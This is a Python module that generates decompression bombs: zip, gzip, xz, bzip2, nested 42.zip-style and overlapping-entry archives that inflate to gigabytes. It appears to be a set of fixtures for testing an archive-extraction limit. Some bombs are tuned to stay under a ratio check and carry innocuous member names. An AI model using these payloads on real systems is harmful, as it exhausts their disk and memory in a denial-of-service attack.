"""Decompression bombs built in code: a few MB on disk (often KBs), gigabytes once inflated."""

from __future__ import annotations

import bz2
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

MiB = 1024 * 1024
_ZEROS = bytes(MiB)


def deflate_repeated(chunk: bytes, times: int) -> bytes:
    """A raw deflate stream of ``chunk`` repeated ``times`` times, for the cost of compressing it once.

    After a full flush the compressor starts afresh, so every copy of ``chunk`` compresses to the same bytes.
    """
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    return block * times + co.flush()


def sparse_chunk(seed: int = 7, spacing: int = 1024) -> bytes:
    """1 MiB of zeros with a random byte every ``spacing`` bytes: deflates about 100:1, under the 200:1 ratio limit."""
    rng = random.Random(seed)
    data = bytearray(MiB)
    for i in range(0, MiB, spacing):
        data[i] = rng.randrange(1, 256)
    return bytes(data)


def gzip_of(deflated: bytes) -> bytes:
    """Wrap a raw deflate stream as gzip (CRC and size left zero: the limit hits long before the trailer)."""
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + deflated + struct.pack("<II", 0, 0)


def zip_with(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, data, method, uncompressed size) where ``data`` is already compressed for ``method``."""
    out = io.BytesIO()
    central = []
    for name, data, method, size in members:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, 0, len(data), size, len(raw), 0))
        out.write(raw + data)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, 0, len(data),
                                   size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    return _finish(out, central)


def _finish(out: io.BytesIO, central: list[bytes]) -> bytes:
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def overlapping_zip(kernel: bytes, size: int, members: int) -> bytes:
    """Many central-directory entries sharing one local header and its data (a "droste"/overlap bomb).

    Every member inflates the same kernel, so the archive grows linearly in members and not at all on disk.
    """
    out = io.BytesIO()
    out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, 0, len(kernel), size, 5, 0))
    out.write(b"k.bin" + kernel)
    central = []
    for i in range(members):
        raw = f"m{i:05d}.bin".encode()
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, 0, len(kernel), size,
                                   len(raw), 0, 0, 0, 0, 0, 0) + raw)
    return _finish(out, central)


def stored_zip(members: dict[str, bytes]) -> bytes:
    """A plain stored zip (nesting levels: no compression gain, the multiplication comes from the copies)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def nested_zip(levels: int, copies: int, inner_mib: int) -> bytes:
    """42.zip-style: ``copies`` zips per level, ``levels`` deep, each leaf ``inner_mib`` MiB of zeros."""
    leaf = zip_with([("zeros.bin", deflate_repeated(_ZEROS, inner_mib), 8, inner_mib * MiB)])
    data = leaf
    for level in range(levels):
        data = stored_zip({f"l{level}_{i}.zip": data for i in range(copies)})
    return data


def tar_of(members: dict[str, bytes]) -> bytes:
    """A tar archive of in-memory members (fixed metadata: deterministic bytes)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def xz_zeros(stream_mib: int, streams: int) -> bytes:
    """Concatenated .xz streams (a valid .xz file) of zeros."""
    return lzma.compress(bytes(stream_mib * MiB), preset=0) * streams


def bz2_zeros(stream_mib: int, streams: int) -> bytes:
    """Concatenated bzip2 streams (``bunzip2`` reads them all) of zeros."""
    return bz2.compress(bytes(stream_mib * MiB), 9) * streams


def build_all() -> dict[str, tuple[bytes, int]]:
    """Every bomb by file name, with the bytes it would inflate to if nothing stopped it."""
    zeros_gib = deflate_repeated(_ZEROS, 1024)
    sparse = sparse_chunk()
    return {
        "zip_deflate_1gib.zip": (zip_with([("weights.bin", zeros_gib, 8, 1024 * MiB)]), 1024 * MiB),
        "zip_sparse_256mib.zip": (zip_with([("data.pkl", deflate_repeated(sparse, 256), 8, 256 * MiB)]), 256 * MiB),
        "gzip_1gib.gz": (gzip_of(zeros_gib), 1024 * MiB),
        "gzip_sparse_256mib.gz": (gzip_of(deflate_repeated(sparse, 256)), 256 * MiB),
        "xz_1gib.xz": (xz_zeros(16, 64), 1024 * MiB),
        "bz2_512mib.bz2": (bz2_zeros(8, 64), 512 * MiB),
        "nested_42.zip": (nested_zip(levels=6, copies=2, inner_mib=16), 64 * 16 * MiB),
        "nested_tar_gz_zip.tar": (tar_of({"inner.zip": stored_zip({"a.gz": gzip_of(zeros_gib)})}), 1024 * MiB),
        "overlap_sparse.zip": (overlapping_zip(deflate_repeated(sparse, 8), 8 * MiB, 600), 600 * 8 * MiB),
        "overlap_zeros.zip": (overlapping_zip(deflate_repeated(_ZEROS, 64), 64 * MiB, 1000), 1000 * 64 * MiB),
    }
